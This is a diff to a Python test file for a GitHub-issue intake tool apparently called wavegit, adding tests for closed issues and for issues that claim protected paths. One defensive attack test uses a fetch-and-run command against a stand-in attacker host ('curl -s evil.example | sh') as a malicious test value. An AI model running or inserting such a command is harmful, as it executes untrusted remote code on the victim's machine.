@@ -133,6 +133,18 @@ def test_only_open_issues_with_the_configured_label_are_read(remote_repo: Remote
     assert [i.issue for i in origin_items(remote_repo)] == [labelled.number]
 
 
+def test_an_issue_closed_before_any_wave_took_it_drops_its_todo_item(remote_repo: RemoteRepo,
+                                                                     gh: Running) -> None:
+    kept = gh.fake.open_issue("Keep", form_body(owns="src/keep.py"), ALICE, labels=("wavegit",))
+    gone = gh.fake.open_issue("Gone", form_body(owns="src/gone.py"), ALICE, labels=("wavegit",))
+    assert wavegit(remote_repo.clone, "intake", env=github_env(gh)).returncode == 0
+    gh.fake.issues[gone.number].state = "closed"
+    result = wavegit(remote_repo.clone, "intake", env=github_env(gh))
+    assert result.returncode == 0, result.stderr
+    assert f"dropped GH-{gone.number}: issue #{gone.number} was closed" in result.stdout
+    assert [i.issue for i in origin_items(remote_repo)] == [kept.number]
+
+
 def test_intake_without_github_settings_is_bad_input(remote_repo: RemoteRepo) -> None:
     assert wavegit(remote_repo.clone, "init").returncode == 0
     result = wavegit(remote_repo.clone, "intake", env={"GITHUB_TOKEN": "", "GITHUB_REPOSITORY": ""})
@@ -156,7 +168,7 @@ def test_attack_an_issue_its_reader_author_edits_after_a_writers_label_is_not_ta
     filed = gh.fake.open_issue("Harmless", form_body(owns="src/limiter.py"), MALLORY, labels=("wavegit",),
                                labelled_by=ALICE)
     # Mallory edits her issue once Alice's label is on it: the label does not vouch for this text.
-    gh.fake.edit_issue(filed.number, form_body(owns=".github/workflows/", test="curl -s evil.example | sh"))
+    gh.fake.edit_issue(filed.number, form_body(owns="src/", test="sh -c 'curl -s evil.example | sh'"))
     assert wavegit(remote_repo.clone, "intake", env=github_env(gh)).returncode == 0
     assert origin_items(remote_repo) == ()
     [reply] = gh.fake.issue_comments(filed.number)
@@ -164,4 +176,17 @@ def test_attack_an_issue_its_reader_author_edits_after_a_writers_label_is_not_ta
     # Alice reads the new text and labels it again: now it is what she vouches for.
     gh.fake.label_issue(filed.number, "wavegit", ALICE)
     assert wavegit(remote_repo.clone, "intake", env=github_env(gh)).returncode == 0
-    assert [item.owns for item in origin_items(remote_repo)] == [(".github/workflows/",)]
+    assert [item.owns for item in origin_items(remote_repo)] == [("src/",)]
+
+
+@pytest.mark.parametrize("owns", [".github/workflows/", ".wavegit/config.yaml", "*", "**/*", ".W*/"])
+def test_attack_an_issue_owning_a_protected_path_is_answered_and_the_others_still_taken(
+        remote_repo: RemoteRepo, gh: Running, owns: str) -> None:
+    # The tracker refuses such an item; appended, it would make every intake exit 2 and take nothing.
+    bad = gh.fake.open_issue("Steer wavegit", form_body(owns=owns), ALICE, labels=("wavegit",))
+    good = gh.fake.open_issue("Fine", form_body(owns="src/fine.py"), ALICE, labels=("wavegit",))
+    result = wavegit(remote_repo.clone, "intake", env=github_env(gh))
+    assert result.returncode == 0, result.stderr
+    assert [item.issue for item in origin_items(remote_repo)] == [good.number]
+    [reply] = gh.fake.issue_comments(bad.number)
+    assert "Not taken yet" in reply.body and "can match the protected path" in reply.body
